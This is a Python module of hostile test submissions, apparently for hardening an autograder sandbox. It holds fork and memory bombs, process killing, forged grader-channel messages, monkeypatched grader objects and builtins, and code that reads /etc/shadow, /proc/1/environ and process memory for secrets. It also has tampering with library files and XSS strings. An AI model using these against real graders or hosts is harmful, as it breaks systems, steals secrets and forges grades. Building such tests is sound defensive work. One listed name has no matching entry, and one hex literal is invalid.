"""Attacks by what else code can do: Python text by name.

Each text defines `attack(name, args, options)`. A submission is made of it: the text comes first,
and every function and class of the assignment becomes a call of `attack`.
"""

from __future__ import annotations

#: Attacks on the process that runs the code, and on the channel to the tests.
PROCESS = {
    "exit": "import os\ndef attack(name, args, options): os._exit(0)",
    "segfault": "import ctypes\ndef attack(name, args, options): ctypes.string_at(0)",
    "kills-all": """
import os, signal
def attack(name, args, options):
    for process in (os.getppid(), 1, -1, 0):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try: os.kill(process, number)
            except OSError: pass
    return torch.zeros(3), torch.zeros(3)
""",
    "fork-bomb": """
import os
def attack(name, args, options):
    while True:
        try: os.fork()
        except OSError: pass
""",
    "memory-bomb": """
def attack(name, args, options):
    kept = []
    while True: kept.append(bytearray(b"x" * (1 << 24)))
""",
    "fills-the-disk": """
import os
def attack(name, args, options):
    for folder in ("/tmp", "/dev/shm", "."):
        for number in range(100):
            try:
                with open(f"{folder}/{number}", "wb") as file: file.write(bytes(1 << 22))
            except OSError: break
    return torch.zeros(3), torch.zeros(3)
""",
    "floods-the-output": """
import os, sys
print("x" * 10_000_000)
def attack(name, args, options):
    while True:
        os.write(1, b"flood" * 10_000); os.write(2, b"flood" * 10_000)
        print("flood" * 10_000); print("flood" * 10_000, file=sys.stderr)
""",
    "closes-descriptors": """
import os
def attack(name, args, options): os.closerange(0, 4096)
""",
    "raw-bytes-in-the-channel": """
import os
def attack(name, args, options):
    os.write(4, b"GRW1" + b"\\xff" * 100)
    return torch.zeros(3), torch.zeros(3)
""",
    "forged-answers": """
import json, os, struct
number = 0
def attack(name, args, options):
    global number
    number += 1
    kinds = ['{"m": {"number": %d, "value": true, "gone": {}}, "b": []}' % number,
             '{"m": NaN, "b": [Infinity]}', '[' * 100_000, '{"m": {}, "b": [-1, 1]}',
             '{"m": {"number": true, "value": ["X", 0]}, "b": []}']
    text = kinds[number % len(kinds)].encode()
    os.write(4, struct.pack("!4sIQ", b"GRW1", len(text), 0) + text)
    return torch.zeros(3), torch.zeros(3)
""",
    "a-header-of-gigabytes": """
import os, struct
def attack(name, args, options):
    os.write(4, struct.pack("!4sIQ", b"GRW1", (1 << 32) - 1, (1 << 63)))
    while True: os.write(4, b"[" * 60_000)
""",
    "answers-of-its-own-peer": """
import gc
def attack(name, args, options):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Student" + "Peer":
            compose = thing.compose
            def forged(*a, **k):
                message = compose(*a, **k)
                message.update(value=["X", 0], drew=True, changed=None)
                return message
            thing.compose = forged
    return torch.zeros(3), torch.zeros(3)
""",
    "lets-go-of-what-it-changed": """
import gc
def attack(name, args, options):
    for a in args:
        if isinstance(a, torch.Tensor) and a.is_floating_point(): a.data.zero_()
    for thing in gc.get_objects():
        if type(thing).__name__ == "Student" + "Peer" and len(name) % 2:
            thing.gone["storages"] = list(range(0, 1000, 2))
            thing.gone["leaves"] = list(range(0, 100, 2))
    return torch.zeros(3), torch.zeros(3)
""",
    "answers-before-it-is-asked": """
import gc
def attack(name, args, options):
    for thing in gc.get_objects():
        if type(thing).__name__ == "Student" + "Peer" and "next" not in vars(thing):
            thing.next, compose = [], thing.compose
            def forged(message, *a, **k):
                found = compose(message, *a, **k)
                if "request" in found: return found
                for _ in range(3):
                    thing.channel.send({**found, "value": True})
                    found = {**found, "number": found["number"] + 1}
                return found
            thing.compose = forged
            break
    return torch.zeros(3), torch.zeros(3)
""",
    "an-error-for-each-cell": """
import gc
def attack(name, args, options): return torch.zeros(3), torch.zeros(3)
for thing in gc.get_objects():
    if type(thing).__name__ == "Student" + "Peer":
        compose = thing.compose
        def forged(message, *a, **k):
            found = compose(message, *a, **k)
            if isinstance(found.get("value"), list) and found["value"][0] == "d":
                found["error"] = {"name": "E", "bases": ["KeyError"], "arguments": ["why"]}
            return found
        thing.compose = forged
""",
    "patched-student-side": """
import sys
def attack(name, args, options): return torch.zeros(3), torch.zeros(3)
for name, module in list(sys.modules.items()):
    if name.startswith(("grad" + "ing", "torch.nn.functional", "json")):
        sys.modules[name] = type(sys)(name)
import builtins
builtins.isinstance = lambda *a: True
builtins.all = builtins.any = lambda *a: True
""",
    "jupyter-hooks": """
def attack(name, args, options): return torch.zeros(3), torch.zeros(3)
%matplotlib inline
!cat /etc/passwd
import IPython
class Strip:
    def visit(self, node): return None
shell = get_ipython()
if shell is not None:
    shell.ast_transformers.append(Strip())
    shell.input_transformers_cleanup.append(lambda lines: [])
    shell.run_cell_async = None
    shell.events.register("pre_run_cell", lambda info: print(info.raw_cell))
""",
    "tracing": """
import sys, threading, atexit, gc, signal
secrets_found = []
def trace(frame, event, argument):
    for name, value in frame.f_locals.items():
        if name in ("expected", "want", "source"): secrets_found.append(str(value)[:100])
    return trace
sys.settrace(trace); sys.setprofile(trace); threading.settrace(trace)
class Finaliser:
    def __del__(self):
        while True: Finaliser()
atexit.register(lambda: [None for _ in iter(int, 1)])
gc.set_threshold(1, 1, 1)
gc.callbacks.append(lambda *a: None)
for number in range(1, 30):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
def attack(name, args, options): return torch.zeros(3), torch.zeros(3)
""",
    "threads-and-daemons": """
import os, threading, time
def forever():
    while True: time.sleep(0.01)
for _ in range(5): threading.Thread(target=forever, daemon=False).start()
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        while True: time.sleep(0.1)
def attack(name, args, options): return torch.zeros(3), torch.zeros(3)
""",
    "busy-threads": """
import threading
def forever():
    while True: pass
for _ in range(8): threading.Thread(target=forever, daemon=True).start()
def attack(name, args, options): return torch.zeros(3), torch.zeros(3)
""",
    "global-state-of-torch": """
torch.set_default_dtype(torch.float64)
torch.set_grad_enabled(False)
torch.use_deterministic_algorithms(True)
torch.manual_seed(123)
torch.set_num_threads(8)
torch.set_printoptions(threshold=10_000_000)
def attack(name, args, options): return torch.zeros(3), torch.zeros(3)
""",
}

#: They end only when a limit ends them; one task of each hangs.
HANGS = {
    "endless": "def attack(name, args, options):\n    while True: pass",
    "asleep": """
import time
def attack(name, args, options):
    while True:
        try: time.sleep(1000)
        except: pass
""",
    "busy-in-c": "def attack(name, args, options): return 7 ** (10 ** 9)",
    "just-below-the-limit": """
import time
def attack(name, args, options):
    time.sleep(3.5)
    return torch.zeros(3), torch.zeros(3)
""",
}

#: They look for what is not theirs and tell in an error and in what they print.
SPIES = {
    "reads-files": """
import os, sys
found, seen = [], []
def attack(name, args, options):
    places = ["/submitted", "/home", "/root", "/srv", "/mnt", "/opt", "/var", "/run",
              bytes.fromhex("COURSE").decode()]
    for place in places if not seen else ():
        for folder, below, files in os.walk(place):
            if folder == sys.base_prefix:  # the Python that runs here
                below.clear()
            else:
                found.extend(os.path.join(folder, name) for name in files)
    for path in ("/etc/shadow", "/proc/1/environ", "/proc/1/root/etc/hosts", "/proc/1/mem"):
        try:
            with open(path, "rb") as file: found.append(path + str(file.read(10)))
        except OSError: pass
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (1, os.getpid()): found.append("process " + name)
    seen.append(name)
    raise RuntimeError(f"SPY {found}")
""",
    "network": """
import os, socket
found = []
def attack(name, args, options):
    for kind, address in (
            (socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET, ("1.1.1.1", 53)),
            (socket.AF_UNIX, "\\0/tmp/.X11-unix/X0"),
            (socket.AF_UNIX, "/run/dbus/system_bus_socket")):
        try:
            with socket.socket(kind, socket.SOCK_STREAM) as made:
                made.settimeout(1); made.connect(address); found.append(str(address))
        except OSError: pass
    with open("/proc/net/unix") as file: found.extend(file.readlines()[1:])
    raise RuntimeError(f"SPY {found}")
""",
    "memory-of-the-process": """
import ctypes, gc, hashlib, os, sys
digests, starts = DIGESTS, STARTS
found = []
def look(data):
    for start, length in starts:
        place = data.find(start)
        while place >= 0:
            part = bytes(data[place : place + length])
            if hashlib.sha256(part).hexdigest() in digests: found.append("secret")
            place = data.find(start, place + 1)
calls = 0
def attack(name, args, options):
    global calls
    calls += 1
    if calls not in (2, 30): raise RuntimeError(f"SPY {found}")
    frame = sys._getframe()
    while frame:
        look(repr((frame.f_code.co_consts, frame.f_locals)).encode(errors="replace"))
        frame = frame.f_back
    for thing in os.listdir("/proc/self/" + "fd"):
        try: found.extend(["file"] if int(thing) > 4 and os.read(int(thing), 1) else [])
        except OSError: pass
    with open("/proc/self/" + "maps") as maps:
        for line in maps:
            place, modes = line.split()[:2]
            if modes[:2] != "rw" or "[v" in line: continue
            start, end = [int(n, 16) for n in place.split("-")]
            look(ctypes.string_at(start, end - start))
    raise RuntimeError(f"SPY {found}")
""",
}

#: What one submission leaves and the next one looks for.
TRACES = {
    "leaves-traces": """
import os, random, socket, sys, threading, time
for folder in ("/tmp", "/dev/shm", ".", os.path.expanduser("~"), os.environ["TMPDIR"]):
    with open(os.path.join(folder, "trace"), "w") as file: file.write("def attack(*a): return 1")
os.environ["TRACE"] = "x"; random.seed(5); torch.manual_seed(5)
torch.trace_left = nn.trace_left = 1
import json; json.trace_left = 1; sys.modules["trace_left"] = json
if os.fork() == 0:
    os.setsid()
    made = socket.socket(socket.AF_UNIX); made.bind("\\0trace"); made.listen()
    while True: time.sleep(1)
for path in (os.__file__, torch.__file__, "/grader/grad" + "ing/bridge/student.py"):
    try:
        with open(path, "a") as file: file.write("raise SystemExit")
    except OSError: pass
def attack(name, args, options): return None
""",
    "looks-for-traces": """
import os, random, socket, sys
found = []
for folder in ("/tmp", "/dev/shm", ".", os.path.expanduser("~"), os.environ["TMPDIR"]):
    if os.path.exists(os.path.join(folder, "trace")): found.append(folder)
if "TRACE" in os.environ or "trace_left" in sys.modules: found.append("environment")
import json
if any(hasattr(module, "trace_left") for module in (torch, nn, json)): found.append("modules")
made = socket.socket(socket.AF_UNIX)
try:
    made.connect("\\0trace"); found.append("socket")
except OSError: pass
if len([name for name in os.listdir("/proc") if name.isdigit()]) > 2: found.append("process")
def attack(name, args, options): raise RuntimeError(f"SPY {found}")
""",
}

#: Text that does harm where it is shown.
WORDS = {
    "html-and-colours": """
bad = ("<script>alert(1)</script><img src=x onerror=alert(1)>\\x1b[31mred\\x1b[2J\\r\\n\\0\\u202e"
       "\\ud800 </pre></body>" + "y" * 50_000)
print(bad.encode("utf-8", "replace").decode()); print(bad)
def attack(name, args, options): raise ValueError(bad)
""",
    "odd-names": """
Odd = type("<b>\\x1b[31m", (Exception,), {})
Other = type("x" * 100_000, (), {"__repr__": lambda self: "<script>" * 100_000})
def attack(name, args, options):
    if len(name) % 2: raise Odd("\\ud800\\ud800")
    return Other(), Other()
""",
}

ATTACKS = {**PROCESS, **HANGS, **SPIES, **TRACES, **WORDS}

#: What a person must look at: not for its words, but for what it did.
SUSPECT = {
    "raw-bytes-in-the-channel",
    "forged-answers",
    "a-header-of-gigabytes",
    "answers-of-its-own-peer",
    "lets-go-of-what-it-changed",
    "answers-before-it-is-asked",
    "memory-of-other-sizes",
}
